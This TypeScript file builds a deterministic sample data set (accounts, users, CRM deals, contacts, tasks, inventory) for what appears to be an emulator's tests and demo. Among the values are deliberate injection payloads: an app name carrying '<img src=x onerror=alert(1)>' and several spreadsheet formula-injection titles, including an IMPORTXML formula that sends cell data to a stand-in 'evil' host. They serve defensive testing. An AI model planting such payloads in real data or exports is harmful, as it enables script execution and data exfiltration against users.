// The built-in data sets: 'sample' (accounts acme and globex, the CRM app with Deals and Contacts, and more)
// and 'empty'. Deterministic: fixed clock and seed, so every start has the same ids and values.

import { makeColumn } from './columns.js';
import { hostileObjects, realisticValue } from './generate.js';
import { createRng } from './rng.js';
import { Store } from './store.js';
import type { Column, EmulatorState, JsonValue } from './types.js';

/** Ids of the sample data, for tests and the demo. */
export const SAMPLE = {
  accounts: { acme: 'acc_acme', globex: 'acc_globex' },
  users: {
    alice: 'u_alice',
    bob: 'u_bob',
    dave: 'u_dave',
    erin: 'u_erin',
    carol: 'u_carol',
    frank: 'u_frank',
  },
  apps: { crm: 'ta_crm', ops: 'ta_ops', globex: 'ta_globex' },
  tables: { deals: 'tbl_deals', contacts: 'tbl_contacts', tasks: 'tbl_tasks', inventory: 'tbl_inventory' },
  /** The HTML-injection name of the second acme app. */
  opsAppName: '<img src=x onerror=alert(1)> Ops',
} as const;

/** A state with no accounts, users or apps. */
export function emptyState(): EmulatorState {
  return { version: 1, accounts: [], users: [], apps: [] };
}

function values(entries: [string, JsonValue][]): Record<string, JsonValue> {
  const out: Record<string, JsonValue> = {};
  for (const [key, value] of entries) {
    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return out;
}

const DEAL_TITLES = [
  'Initech renewal 2025',
  'Umbrella pilot',
  '=IMPORTXML("http://evil/?"&A1,"//a")',
  'Stark & Sons upgrade',
  'Wayne Enterprises onboarding',
  'Hooli expansion',
  '+cmd',
  'Vandelay import deal',
  'Soylent GmbH support',
  'Tyrell Corp license',
  'Müller & Söhne KG – Rahmenvertrag',
  'Cyberdyne migration',
  '東京 branch rollout 🚀',
  'Wonka AG workshop',
  'صفقة الشرق الأوسط',
  '@SUM(A1)',
  'Łódź Logistics quote',
  'Acme internal demo',
  '00123',
  'Globex referral',
  'Renewal – "quoted" & <tagged>',
  '-1+1',
  'TRUE',
  '2024-01-05',
  'Zoë’s follow-up',
];
const STATUSES = ['open', 'won', 'lost', 'negotiation', 'qualified'];

/** Builds the sample state (see SAMPLE for its ids). */
export function sampleState(): EmulatorState {
  let now = Date.parse('2024-03-01T09:00:00.000Z');
  const rng = createRng(42);
  const store = new Store(emptyState(), rng, () => {
    now += 60_000;
    return now;
  });
  const s = store.state;
  s.accounts.push(
    { id: 'acc_acme', name: 'Acme', orgId: 'org_acme', wsId: 'ws_acme' },
    { id: 'acc_globex', name: 'Globex', orgId: 'org_globex', wsId: 'ws_globex' },
  );
  const acme = { accountId: 'acc_acme', orgId: 'org_acme' };
  const globex = { accountId: 'acc_globex', orgId: 'org_globex' };
  s.users.push(
    {
      id: 'u_alice',
      ...acme,
      emailId: 'alice@acme.test',
      firstName: 'Alice',
      lastName: 'Archer',
      activationStatus: 'active',
    },
    {
      id: 'u_bob',
      ...acme,
      emailId: 'bob@acme.test',
      firstName: 'Bob',
      lastName: 'Baker',
      activationStatus: 'active',
    },
    {
      id: 'u_dave',
      ...acme,
      emailId: 'dave@acme.test',
      firstName: 'Dave',
      lastName: 'Diaz',
      activationStatus: 'invited',
    },
    {
      id: 'u_erin',
      ...acme,
      emailId: 'Erin.Evans@Acme.test',
      firstName: 'Erin',
      lastName: 'Évans',
      activationStatus: 'active',
    },
    {
      id: 'u_carol',
      ...globex,
      emailId: 'carol@globex.test',
      firstName: 'Carol',
      lastName: 'Chen',
      activationStatus: 'active',
    },
    {
      id: 'u_frank',
      ...globex,
      emailId: 'frank@globex.test',
      firstName: 'Frank',
      lastName: 'Fox',
      activationStatus: 'invited',
    },
  );

  store.addApp('acc_acme', { id: 'ta_crm', name: 'CRM' });
  const oldStage: Column = { ...makeColumn('old_stage', 'Old stage', 'text', { max: 64 }), deleted: true };
  const deals = store.putTable('ta_crm', {
    id: 'tbl_deals',
    name: 'Deals',
    columns: [
      makeColumn('status', 'Status', 'text', { max: 64 }),
      makeColumn('amount', 'Amount', 'number'),
      makeColumn('won', 'Won', 'checkbox'),
      makeColumn('closeDate', 'Close date', 'date'),
      makeColumn('tags', 'Tags', 'multiSelect'),
      makeColumn('meta', 'Meta', 'json'),
      makeColumn('notes', 'Notes', 'text', { max: 50000 }),
      oldStage,
    ],
  });
  const hostile = hostileObjects();
  DEAL_TITLES.forEach((title, i) => {
    const status = STATUSES[i % STATUSES.length] as string;
    const userId = i % 4 === 3 ? 'u_bob' : 'u_alice';
    store.createRow(
      deals,
      values([
        ['title', title],
        ['status', status],
        ['amount', i === 5 ? null : i % 6 === 0 ? 1250.5 * (i + 1) : 1000 * (i + 1)],
        ['won', status === 'won'],
        [
          'closeDate',
          i === 7
            ? null
            : `2024-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 27) + 1).padStart(2, '0')}`,
        ],
        [
          'tags',
          i % 5 === 4
            ? []
            : [['enterprise', 'smb', 'partner'][i % 3] as string, ...(i % 2 ? ['urgent'] : [])],
        ],
        [
          'meta',
          i === 2
            ? (hostile[0] as JsonValue)
            : { source: ['web', 'import', 'api'][i % 3] as string, score: (i * 37) % 100 },
        ],
        [
          'notes',
          i === 0 ? 'Line one\nLine two' : i === 9 ? '\t=1+1' : `Call back ${['Mon', 'Tue', 'Wed'][i % 3]}.`,
        ],
      ]),
      userId,
    );
  });

  const contacts = store.putTable('ta_crm', {
    id: 'tbl_contacts',
    name: 'Contacts',
    columns: [
      makeColumn('contactId', 'Contact id', 'text', { max: 32 }),
      makeColumn('email', 'E-mail', 'text', { max: 256 }),
      makeColumn('phone', 'Phone', 'text', { max: 64 }),
      makeColumn('company', 'Company', 'text', { max: 256 }),
      makeColumn('notes', 'Notes', 'text', { max: 1000 }),
    ],
  });
  const people: [string, string, string, string, string][] = [
    ['Ada Lovelace', '00123', 'ada@initech.test', '+44 20 7946 0958', 'Initech'],
    ['Björn Andersen', '00124', 'bjorn@umbrella.test', '+46 8 123 456', 'Umbrella Ltd'],
    ['Chloé Dubois', '0042', 'chloe@stark.test', '0033 1 23 45 67 89', 'Stark & Sons'],
    ['Dmitri Ivanova', '7', 'dmitri@wayne.test', '+7 495 123-45-67', 'Wayne Enterprises'],
    ['Fatima Haddad', '000', 'fatima@hooli.test', '+971 4 123 4567', 'Hooli'],
    ['Hiro Tanaka', '1e5', 'hiro@tyrell.test', '+81 3-1234-5678', 'Tyrell Corp'],
    ["Seán O'Brien", '00125', 'sean@soylent.test', '+353 1 234 5678', 'Soylent GmbH'],
    ['Priya Patel', '2024-01-05', 'priya@vandelay.test', '=2+3', 'Vandelay Industries'],
    ['Zoë Müller', '00126', 'zoe@wonka.test', '+49 30 1234567', 'Wonka AG'],
    ['نور حداد', '00127', 'nour@lodz.test', '+48 42 123 45 67', 'Łódź Logistics'],
  ];
  people.forEach(([name, contactId, email, phone, company], i) => {
    store.createRow(
      contacts,
      values([
        ['title', name],
        ['contactId', contactId],
        ['email', email],
        ['phone', phone],
        ['company', company],
        ['notes', i % 3 === 0 ? null : `Met at ${['expo', 'webinar'][i % 2]}`],
      ]),
      i % 2 ? 'u_bob' : 'u_alice',
    );
  });

  store.addApp('acc_acme', { id: 'ta_ops', name: SAMPLE.opsAppName });
  const tasks = store.putTable('ta_ops', {
    id: 'tbl_tasks',
    name: 'Tasks <b>bold</b>',
    columns: [makeColumn('done', 'Done', 'checkbox'), makeColumn('due', 'Due', 'date')],
  });
  ['Rotate keys', 'Patch servers', 'Review access'].forEach((title, i) => {
    store.createRow(
      tasks,
      values([
        ['title', title],
        ['done', i === 0],
        ['due', `2024-04-0${i + 1}`],
      ]),
      'u_alice',
    );
  });

  store.addApp('acc_globex', { id: 'ta_globex', name: 'Globex Inventory' });
  const inventory = store.putTable('ta_globex', {
    id: 'tbl_inventory',
    name: 'Inventory',
    columns: [makeColumn('qty', 'Quantity', 'number'), makeColumn('sku', 'SKU', 'text', { max: 32 })],
  });
  for (let i = 1; i <= 5; i++) {
    store.createRow(
      inventory,
      values([
        ['title', `Widget ${i}`],
        ['qty', realisticValue(makeColumn('q', 'q', 'number'), rng, i)],
        ['sku', `SKU-${i}`],
      ]),
      'u_carol',
    );
  }
  return s;
}
